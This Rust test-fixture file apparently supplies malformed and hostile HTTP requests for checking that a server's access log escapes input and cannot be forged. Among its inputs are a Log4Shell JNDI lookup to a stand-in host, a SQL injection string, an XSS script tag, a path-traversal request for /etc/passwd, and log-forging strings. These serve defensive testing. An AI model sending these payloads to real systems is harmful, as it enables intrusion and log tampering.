//! Hostile traffic: invalid requests, and text that tries to mislead the reader of a log.

use super::request::{Answer, Exchange, Logged, Request};

/// Values for a referer, a user agent and, in another header, a user. They would break a log without escaping, or a
/// reader that does not unescape.
pub(crate) const TEXTS: [&[u8]; 30] = [
    b"-",
    b"",
    b"\"",
    b"\\",
    b"a\\",
    b"\\\"",
    b"\\x22",
    b"\\x5C\\x",
    b"\\u0041\\n\\/",
    b"\" 200 5 \"-\" \"evil",
    b"] \"GET /evil HTTP/1.1\" 500 1 \"",
    b"\",\"status\":500,\"x\":\"",
    b"{\"status\": 500}",
    b"a\tb",
    b"\x01\x02\x1f",
    b"\x1b[31mred\x1b[0m",
    b"\x7f",
    "käse Привет 漢字 🦀".as_bytes(),
    b"caf\xe9 \xa4",
    b"\xff\xfe",
    b"\xc0\xaf overlong",
    b"\xed\xa0\x80 lone",
    b"\xf0\x9f\xa6",
    "\u{85}\u{a0}\u{ad}".as_bytes(),
    "\u{202e}gnp.exe".as_bytes(),
    "\u{200b}\u{2028}\u{feff}".as_bytes(),
    b"'; DROP TABLE hits; --",
    b"${jndi:ldap://evil.test/a}",
    b"<script>alert(1)</script>",
    b"%00%0a%s",
];

/// More users. A user name is sent in base64.
pub(crate) const USERS: [&[u8]; 14] = [
    b"bob",
    b"bob smith",
    b"[",
    b"]",
    b"bob [admin]",
    b"x [14/Nov/2026",
    b"- - [",
    b" [01/Jan/2020",
    b"a  b ",
    b" ",
    b"a\0b",
    b"a\nb",
    b"a\r\nb",
    b"10.0.0.9 - eve [",
];

/// Targets that nginx accepts, or rejects with a log line.
pub(crate) const TARGETS: [&[u8]; 54] = [
    b"/?",
    b"/?a=b?c=d",
    b"/index.html?q=1&r=%20",
    b"//double//slash",
    b"/./a/../index.html",
    b"/static/../index.html",
    b"/static/%2e%2e/index.html",
    b"/%73tatic/a.css",
    b"/%69ndex.html",
    b"/per%25cent",
    b"/%22quoted%22",
    b"/quo\"te",
    b"/'single'",
    b"/back\\slash",
    b"/back\\\\slash\\",
    b"/\\x41",
    b"/\\x2",
    b"/\\\"",
    b"/\\u0041",
    b"/{\"json\":[1,2]}",
    b"/a,b;c=d|e~f!g$h*(i)",
    b"/[brackets]",
    b"/<markup>&amp;",
    "/größe".as_bytes(),
    "/größe.PNG?ß".as_bytes(),
    "/漢字/🦀".as_bytes(),
    b"/caf\xe9",
    b"/\xff\xfe\xfd",
    b"/\xed\xa0\x80",
    b"/\xe2\x82",
    "/\u{202e}gnp.exe".as_bytes(),
    "/zero\u{200b}width".as_bytes(),
    "/\u{80}c1".as_bytes(),
    b"/frag#ment",
    b"/frag#ment?query",
    b"http://site.test/absolute",
    b"http://site.test",
    b"http://site.test?only=query",
    b"http://SITE.test:80/static/a.css?v",
    b"HTTP://site.test/Upper",
    b"http://user@site.test/x",
    b"http://[::1]/six",
    b"http://site.test#fragment",
    b"ftp://site.test/file",
    b"http:///nohost",
    b"/%",
    b"/%zz",
    b"/%00",
    b"/..",
    b"/../../etc/passwd",
    b"?only=query",
    b"*",
    b"relative/path.css",
    b"site.test:443",
];

/// Raw bytes: not a request, or an invalid one. Each ends a connection.
const RAW: [&[u8]; 39] = [
    // TLS, SSH, RDP, SMB, a proxy's CONNECT, SOCKS.
    b"\x16\x03\x01\x00\xee\x01\x00\x00\xea\x03\x03\x8f\x00\"\\\x7f\xff\x1f [] - \"GET /x HTTP/1.1\" 200 \xc3\x28",
    b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\nafter a line end\r\n",
    b"SSH-2.0-Go\r\n",
    b"\x03\x00\x00/*\xe0\x00\x00\x00\x00\x00Cookie: mstshash=Administr\r\n\x01\x00\x08\x00\x03\x00\x00\x00",
    b"\x00\x00\x00\x85\xffSMBr\x00\x00\x00\x00\x18S\xc8",
    b"CONNECT site.test:443 HTTP/1.1\r\nHost: site.test\r\n\r\n",
    b"\x05\x01\x00",
    b"\0",
    b"\0\0\0GET /nul HTTP/1.1\r\nHost: site.test\r\n\r\n",
    b"-\r\n\r\n",
    b"\"\r\n\r\n",
    b"\\x16\\x03\r\n\r\n",
    b" GET / HTTP/1.1\r\n\r\n",
    b"GET\r\n\r\n",
    b"GET \r\n\r\n",
    b"\xef\xbb\xbfGET / HTTP/1.1\r\n\r\n",
    // Invalid requests.
    b"get /lower HTTP/1.1\r\nHost: site.test\r\n\r\n",
    b"G3T /digit HTTP/1.1\r\nHost: site.test\r\n\r\n",
    b"GET /a b  c HTTP/1.1\r\nHost: site.test\r\n\r\n",
    b"GET /a\" 200 5 \"-\" \"evil HTTP/1.1\r\nHost: site.test\r\n\r\n",
    b"GET /nul\0byte HTTP/1.1\r\nHost: site.test\r\n\r\n",
    b"GET /tab\ttab HTTP/1.1\r\nHost: site.test\r\n\r\n",
    b"GET /esc\x1b[31m HTTP/1.1\r\nHost: site.test\r\n\r\n",
    b"GET /del\x7f HTTP/1.1\r\nHost: site.test\r\n\r\n",
    b"GET /cr\rlf HTTP/1.1\r\nHost: site.test\r\n\r\n",
    b"GET / HTTP/1.1 and more\r\nHost: site.test\r\n\r\n",
    b"GET / HTTP/2.0\r\nHost: site.test\r\n\r\n",
    b"GET / HTTP/1.\r\nHost: site.test\r\n\r\n",
    b"GET / HTTQ/1.1\r\nHost: site.test\r\n\r\n",
    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    b"TRACE / HTTP/1.1\r\nHost: site.test\r\n\r\n",
    b"GET /no/host HTTP/1.1\r\n\r\n",
    b"GET /bad/host HTTP/1.1\r\nHost: a/b\r\n\r\n",
    b"GET /two/hosts HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n",
    b"GET /bad/length HTTP/1.1\r\nHost: a\r\nContent-Length: x\r\n\r\n",
    b"GET /nul/header HTTP/1.1\r\nHost: a\r\nUser-Agent: a\0b\r\n\r\n",
    b"GET /bad/name HTTP/1.1\r\nHost: a\r\nBad Name: x\r\nConnection: close\r\n\r\n",
    b"POST /app/coding HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: gzip\r\n\r\n",
    b"POST /app/large HTTP/1.1\r\nHost: a\r\nContent-Length: 99999999999\r\n\r\n",
];

/// Raw bytes that are not answered with a response.
const ANSWERED_ODDLY: [(&[u8], Answer); 12] = [
    (b"GET /\r\n", Answer::Bare(200)),
    (b"GET /static/a.css\n", Answer::Bare(200)),
    (b"GET   /missing?x  \r\n", Answer::Bare(404)),
    (b"GET /caf\xe9\"\\\r\n", Answer::Bare(404)),
    (b"GET /hangup HTTP/1.1\r\nHost: site.test\r\n\r\n", Answer::Nothing(444)),
    (b"\r\n", Answer::NothingMore(400)),
    (b"\n\n\r\n\n", Answer::NothingMore(400)),
    (b"G", Answer::NothingMore(400)),
    (b"GET /left/in/the/line?x", Answer::NothingMore(400)),
    (b"GET /left/before/its/end HTTP/1.1", Answer::NothingMore(400)),
    (b"GET /left/in/the/head HTTP/1.1\r\nHost: site.test\r\n", Answer::NothingMore(400)),
    (b"\r\nGET /left/behind HTTP/1.0\r\nX: \"", Answer::NothingMore(400)),
];

/// Incomplete requests, sent to the server with short timeouts.
pub(crate) const UNFINISHED: [&[u8]; 4] =
    [b"GET /slow/in/the/line?x", b"\r\n", b"GET /slow/in/the/head HTTP/1.1\r\nHost: a\r\n", b"POST  /\"\\"];

/// All requests that end a connection.
pub(crate) fn last_words() -> Vec<Exchange> {
    let raw = |sent: &[u8], answer| Exchange { sent: sent.to_vec(), logged: Logged::of(sent), answer };
    let mut all: Vec<_> = RAW.iter().map(|sent| raw(sent, Answer::Response)).collect();
    all.extend(ANSWERED_ODDLY.iter().map(|(sent, answer)| raw(sent, answer.clone())));
    // Larger than one buffer of nginx, in the request line and in a header.
    for (start, longer) in [("/", 8200), ("/long?", 9000), ("/\"\\", 12_000)] {
        all.push(raw(&line_of(start.as_bytes(), longer), Answer::Response));
    }
    for length in [8300, 20_000] {
        let mut large = Request::get(format!("/large/header/{length}"));
        large.agent = Some(b"before it".to_vec());
        large.more = [b"X-Large: ", b"x".repeat(length).as_slice(), b"\r\n"].concat();
        all.push(large.exchange(Answer::Response));
    }
    for target in TARGETS {
        let mut request = Request::get(target);
        request.is_last = true;
        all.push(request.exchange(Answer::Response));
    }
    all
}

/// A request line with a target of `target_length` bytes, and a head.
fn line_of(start: &[u8], target_length: usize) -> Vec<u8> {
    let filling = b"0123456789abcdef/".iter().cycle().take(target_length - start.len());
    let mut line = b"GET ".to_vec();
    line.extend_from_slice(start);
    line.extend(filling);
    line.extend_from_slice(b" HTTP/1.1\r\nHost: site.test\r\n\r\n");
    line
}
